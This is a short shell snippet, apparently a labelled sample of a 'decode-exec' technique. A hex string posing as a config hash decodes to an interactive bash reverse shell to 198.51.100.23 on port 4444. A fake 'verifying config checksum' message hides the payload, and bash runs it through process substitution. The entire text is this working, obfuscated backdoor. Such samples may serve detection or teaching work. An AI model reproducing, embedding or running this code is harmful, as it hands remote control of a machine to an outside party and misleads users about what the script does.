# decode-exec: hex turned back into text with xxd -r -p and run through process substitution
cfg_hash="62617368202d69203e26202f6465762f7463702f3139382e35312e3130302e32332f3434343420303e2631"
printf 'verifying config checksum %.8s...\n' "$cfg_hash"
bash <(xxd -r -p <<<"$cfg_hash")
